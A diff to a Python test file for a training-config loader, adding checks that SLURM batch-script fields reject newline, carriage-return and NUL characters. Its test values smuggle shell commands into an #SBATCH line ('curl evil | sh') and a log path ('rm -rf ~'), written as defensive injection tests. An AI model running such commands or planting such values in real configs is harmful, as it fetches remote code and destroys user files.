@@ -65,6 +65,10 @@ def test_defaults_from_minimal_config(tmp_path):
         ("shards.remote", "gs://bucket/kiln", "shards.remote"),
         ("shards.remote", "s3:///kiln", "shards.remote"),
         ("train.model.noise_scheduler.prediction_type", "epsilon", "needs prediction_type"),
+        # Each becomes an #SBATCH line: a newline would add a shell line to the batch script.
+        ("launch.slurm.sbatch_lines", ["--exclusive\ncurl evil | sh"], "launch.slurm.sbatch_lines"),
+        ("launch.slurm.partition", "gpu\rx", "launch.slurm.partition"),
+        ("launch.slurm.account", "team\x00", "launch.slurm.account"),
     ],
 )
 def test_bad_value_names_field_and_value(tmp_path, dotted, value, expect):
@@ -72,7 +76,7 @@ def test_bad_value_names_field_and_value(tmp_path, dotted, value, expect):
     node = cfg
     *parents, leaf = dotted.split(".")
     for p in parents:
-        node = node[int(p)] if p.isdigit() else node[p]
+        node = node[int(p)] if p.isdigit() else node.setdefault(p, {})
     node[leaf] = value
     (tmp_path / "bad.yaml").write_text(yaml.safe_dump(cfg))
     with pytest.raises(ConfigError) as e:
@@ -545,3 +549,16 @@ def test_node_counts_need_a_cluster_and_a_fitting_sample_order(tmp_path, launch,
     cfg["train"]["num_canonical_nodes"] = 4
     (tmp_path / "good.yaml").write_text(yaml.safe_dump(cfg))
     assert load_config(tmp_path / "good.yaml").train.canonical_nodes() == 4
+
+
+def test_the_batch_script_refuses_a_control_character_the_config_could_not_see(tmp_path):
+    """A log path under a root whose name holds a newline: the script is not written."""
+    from kiln_config import SlurmConfig
+    from tasks.launch.slurm import SlurmRejected, job_script
+
+    kw = {"nodes": 1, "processes_per_machine": 1, "name": "s0", "workdir": str(tmp_path)}
+    exclusive = SlurmConfig(sbatch_lines=["--exclusive"])
+    ok = job_script(["-m", "x"], slurm=exclusive, log=tmp_path, **kw)
+    assert "#SBATCH --exclusive\n" in ok
+    with pytest.raises(SlurmRejected, match="control character"):
+        job_script(["-m", "x"], slurm=SlurmConfig(), log=tmp_path / "a\nrm -rf ~", **kw)
